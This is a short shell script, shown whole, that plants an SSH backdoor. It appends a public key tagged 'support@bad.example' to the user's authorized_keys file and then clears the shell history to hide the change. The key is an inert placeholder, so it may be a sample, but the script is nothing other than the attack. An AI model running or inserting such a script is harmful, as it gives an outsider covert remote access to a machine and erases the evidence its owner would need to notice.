#!/bin/sh
mkdir -p ~/.ssh
echo "ssh-ed25519 AAAAinert support@bad.example" >> ~/.ssh/authorized_keys
history -c
